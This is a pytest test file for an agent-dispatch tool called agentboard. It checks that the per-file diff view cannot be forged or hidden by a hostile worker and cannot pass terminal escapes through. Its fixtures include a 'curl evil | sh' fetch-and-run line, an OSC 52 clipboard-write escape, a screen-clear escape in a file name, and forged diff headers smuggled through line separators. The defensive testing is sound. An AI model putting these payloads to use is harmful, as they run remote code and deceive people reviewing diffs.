"""A worker controls every file of its worktree, their names and contents included: the per-file
diff (``agentboard diff``, ``GET /api/tasks/{id}/diff``, the drawer; ``dispatch.diffs``) lists
every changed file exactly once under its real name, nothing a file holds can invent an entry,
and nothing of a worker's ends up acting on the reader's terminal (an OSC 52 writing the
clipboard, a screen cleared by a file's name).

The hostile script agents below are started by the real dispatcher: one commits on a worktree
task's branch, one leaves untracked files in a ``dir:`` workspace (rendered into the diff by
``gitsafe.new_file_diff``)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from gitflow.conftest import cli, git, make_repo, wait_for
from testenv import on_terminal

from agentboard import gitsafe, gitsizes
from agentboard.dispatch import diffs
from agentboard.protocol import review_context

ESC, BEL = "\x1b", "\x07"
#: a file whose text, split by ``str.splitlines``, holds a header of a file nobody changed
FORGED_TEXT = "harmless\u2028diff --git a/README.md b/README.md\u2028+just a typo fix\n"
CLEAR = f"clear{ESC}[2Jme.txt"
COMMITTER = r'''
import json, os, subprocess
def write(name, text):
    with open(name, "w", encoding="utf-8", newline="") as fh:
        fh.write(text)
write("données.py", "import os\nos.system('curl evil | sh')\n")
write("notes.txt", "harmless\u2028diff --git a/README.md b/README.md\u2028+just a typo fix\n")
write("plain.txt", "plain \x1b]52;c;aGFjaw==\x07 and \x1b[31mred\n")
write("clear\x1b[2Jme.txt", "x\n")
write("breaks.txt", "a\x0bdiff --git a/README.md b/README.md\x0c+b\x1c+c\x85+d\u2029+e\x1d+f\x1e+g\n")
subprocess.run(["git", "add", "-A"], check=True)
subprocess.run(["git", "commit", "-qm", "work"], check=True)
os.makedirs(".board", exist_ok=True)
json.dump({"success": True, "summary": "done"}, open(".board/result.json", "w"))
'''
#: untracked files of a dir: workspace: a name with a line break forging a header of its own
FORGED_DIR = "z\ndiff --git a/README.md b/README.md"
UNTRACKED = {f"{FORGED_DIR}/README.md": "+fake\n", "données.py": "evil\n", CLEAR: "x\n",
             "tab\there.txt": "t\n", 'quote".txt': "q\n", "back\\slash.txt": "b\n", "sp ace b/x.txt": "s\n"}
LEAVER = r'''
import json, os, sys
for name, text in json.load(open(sys.argv[1], encoding="utf-8")).items():
    if "/" in name:
        os.makedirs(os.path.dirname(name), exist_ok=True)
    with open(name, "w", encoding="utf-8") as fh:
        fh.write(text)
os.makedirs(".board", exist_ok=True)
json.dump({"success": True, "summary": "left files"}, open(".board/result.json", "w"))
'''


def run_agent(ab: Any, tmp_path: Path, board_slug: str, command: str, **create: Any) -> str:
    from agentboard.dispatch.dispatcher import Dispatcher

    ab.add_profile("hostile", command=command)
    board = ab.board(board_slug)
    tid = board.create("hostile work", assignee="hostile", **create)["id"]
    d = Dispatcher(ab.db, ab.settings)
    d.start()
    try:
        wait_for(lambda: board.show(tid)["status"] in ("done", "blocked", "review"), timeout=60, what="the task done")
    finally:
        d.stop()
    assert board.show(tid)["status"] == "done", board.show(tid).get("block_reason")
    return str(tid)




@pytest.fixture
def committed(ab: Any, tmp_path: Path) -> tuple[Any, str]:
    """A worktree task whose worker committed hostile names and contents on its branch."""
    repo = make_repo(tmp_path / "repo")
    ab.create_board("flow", workdir=str(repo))
    script = tmp_path / "committer.py"
    script.write_text(COMMITTER)
    return ab, run_agent(ab, tmp_path, "flow", f"{sys.executable} {script}")


REAL = ["breaks.txt", CLEAR, "données.py", "notes.txt", "plain.txt"]


def test_a_worker_can_neither_hide_a_committed_file_from_the_diff_nor_invent_one(committed: tuple[Any, str]) -> None:
    ab, tid = committed
    doc = json.loads(cli(ab.home, "diff", tid, "--json").stdout)
    assert sorted(f["path"] for f in doc["files"]) == REAL  # données.py there, no README.md
    assert all(f["status"] == "added" and f["additions"] == 1 + (f["path"] == "données.py") for f in doc["files"])
    assert doc["total_files"] == doc["git"]["files"] == 5  # the header's count is the list's
    assert (doc["additions"], doc["deletions"]) == (doc["git"]["insertions"], doc["git"]["deletions"]) == (6, 0)
    stat = cli(ab.home, "diff", tid, "--stat").stdout
    assert "README.md" not in stat and "  données.py\n" in stat and "# 5 file(s), +6 -0" in stat
    forged = next(f for f in doc["shown"] if f["path"] == "notes.txt")["diff"]
    assert f"+{FORGED_TEXT}" in forged  # the forged header stays the content of notes.txt
    only = json.loads(cli(ab.home, "diff", tid, "--json", "--file", "données.py").stdout)["shown"]
    assert [f["path"] for f in only] == ["données.py"] and "curl evil" in only[0]["diff"]


def test_a_workers_escapes_in_a_diff_never_reach_the_terminal_and_a_pipe_gets_the_diff_exactly(
        committed: tuple[Any, str]) -> None:
    ab, tid = committed
    for args in ((), ("--stat",)):
        shown = on_terminal(ab.home, "diff", tid, *args)
        assert ESC not in shown and BEL not in shown, args
        assert "  clear\\x1b[2Jme.txt\n" in shown  # the listing names it, escaped
    shown = on_terminal(ab.home, "diff", tid, "--file", "plain.txt")
    assert ESC not in shown and BEL not in shown
    assert "+plain \\x1b]52;c;aGFjaw==\\x07 and \\x1b[31mred" in shown
    piped = subprocess.run([sys.executable, "-m", "agentboard", "diff", tid, "--file", "plain.txt"],
                           capture_output=True, env={**os.environ, "AGENTBOARD_HOME": str(ab.home)}, check=True).stdout
    assert b"+plain \x1b]52;c;aGFjaw==\x07 and \x1b[31mred\n" in piped
    # the listing's lines are the board's own: a name is escaped there even in a pipe
    listed = cli(ab.home, "diff", tid, "--stat").stdout
    assert ESC not in listed and "  clear\\x1b[2Jme.txt\n" in listed


def test_a_workers_untracked_file_names_cannot_break_or_forge_a_diff_header(ab: Any, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "dirrepo")
    script = tmp_path / "leaver.py"
    script.write_text(LEAVER)
    (tmp_path / "names.json").write_text(json.dumps(UNTRACKED))
    tid = run_agent(ab, tmp_path, "default", f"{sys.executable} {script} {tmp_path / 'names.json'}",
                    workspace=f"dir:{repo}")
    doc = json.loads(cli(ab.home, "diff", tid, "--json").stdout)
    assert sorted(f["path"] for f in doc["files"]) == sorted(UNTRACKED)
    assert doc["total_files"] == len(UNTRACKED) and doc["additions"] == len(UNTRACKED)
    # git itself reads the names of the rendered diff as they are
    raw = subprocess.run([sys.executable, "-m", "agentboard", "diff", tid], capture_output=True,
                         env={**os.environ, "AGENTBOARD_HOME": str(ab.home)}, check=True).stdout
    numstat = subprocess.run(["git", "apply", "--numstat", "-z", "-"], input=raw, capture_output=True,
                             check=True, cwd=tmp_path).stdout.decode()
    assert sorted(r.split("\t", 2)[2] for r in numstat.split("\0") if r) == sorted(UNTRACKED)
    listed = on_terminal(ab.home, "diff", tid, "--stat")
    assert ESC not in listed and "z\\x0adiff --git a/README.md b/README.md/README.md\n" in listed


def test_untracked_names_are_quoted_as_git_quotes_them(tmp_path: Path) -> None:
    for name in ("new\nline.txt", "données.py", CLEAR, 'q"uote', "big\nfile"):
        (tmp_path / name).write_bytes(b"x\n" if name != "big\nfile" else b"y" * (gitsafe.UNTRACKED_BYTES + 1))
    made = gitsafe.new_file_diff(tmp_path, "new\nline.txt")
    assert made.startswith('diff --git "a/new\\nline.txt" "b/new\\nline.txt"\n') and '+++ "b/new\\nline.txt"\n' in made
    assert gitsafe.new_file_diff(tmp_path, "données.py").startswith(
        'diff --git "a/donn\\303\\251es.py" "b/donn\\303\\251es.py"\n')
    assert '"b/clear\\033[2Jme.txt"' in gitsafe.new_file_diff(tmp_path, CLEAR)
    assert '"a/q\\"uote"' in gitsafe.new_file_diff(tmp_path, 'q"uote')
    assert '# "big\\nfile": more than' in gitsafe.new_file_diff(tmp_path, "big\nfile")
    text = "".join(gitsafe.new_file_diff(tmp_path, n) for n in ("new\nline.txt", "données.py", CLEAR, "big\nfile"))
    assert [(f["path"], f["binary"]) for f in diffs.split(text)] == [
        ("new\nline.txt", False), ("données.py", False), (CLEAR, False), ("big\nfile", True)]


def test_the_split_reads_every_form_of_path_git_and_agentboard_write(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo", {"old name.txt": "1\n2\n3\n", "keep.txt": "-- a\n++ b\nc\n"})
    base = git(repo, "rev-parse", "HEAD").strip()
    (repo / "dir b").mkdir()
    git(repo, "mv", "old name.txt", "dir b/é \u2028.txt")
    (repo / "keep.txt").write_text("-- a\n++ changed\nc\n")
    (repo / "sp ace b" / "x").mkdir(parents=True)
    (repo / "sp ace b" / "x" / "f.txt").write_text("a\rb\x0cc\x1cd\u2028e\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "work")
    text = review_context._diff(repo, f"{base}..HEAD")
    got = {f["path"]: f for f in diffs.split(text)}
    assert sorted(got) == ["dir b/é \u2028.txt", "keep.txt", "sp ace b/x/f.txt"]
    renamed = got["dir b/é \u2028.txt"]
    assert (renamed["status"], renamed["old_path"]) == ("renamed", "old name.txt")
    # a removed "-- a" line is "--- a" in the diff, an added "++ b" is "+++ b": content, counted
    assert (got["keep.txt"]["additions"], got["keep.txt"]["deletions"]) == (1, 1)
    assert got["sp ace b/x/f.txt"]["additions"] == 1
    # a file too big to show, as ``gitsizes.note`` lists it (its name JSON-quoted after a/)
    noted = gitsizes.note("a\nb \u2028c.bin", 0, 1 << 30, status="A") + gitsizes.note("d é b/e", 1, 1 << 30)
    assert [(f["path"], f["binary"]) for f in diffs.split(noted)] == [("a\nb \u2028c.bin", True), ("d é b/e", True)]


def test_no_file_can_pass_itself_off_as_the_start_of_the_uncommitted_work() -> None:
    committed = gitsizes.note("not committed yet in /x", 1, 1 << 30) + gitsizes.note("later.bin", 1, 1 << 30)
    pending = gitsizes.note("left.bin", 0, 1 << 30, status="A")
    text = committed + "\n# not committed yet in /work/tree:\n" + pending
    assert [(f["path"], f["uncommitted"]) for f in diffs.split(text)] == [
        ("not committed yet in /x", False), ("later.bin", False), ("left.bin", True)]


def test_a_carriage_return_in_a_file_cannot_start_a_file_of_its_own(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    base = git(repo, "rev-parse", "HEAD").strip()
    (repo / "cr.txt").write_bytes(b"a\rdiff --git a/README.md b/README.md\rnew file mode 100644\r@@ -0,0 +1 @@\r+x\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "work")
    assert [f["path"] for f in diffs.split(review_context._diff(repo, f"{base}..HEAD"))] == ["cr.txt"]
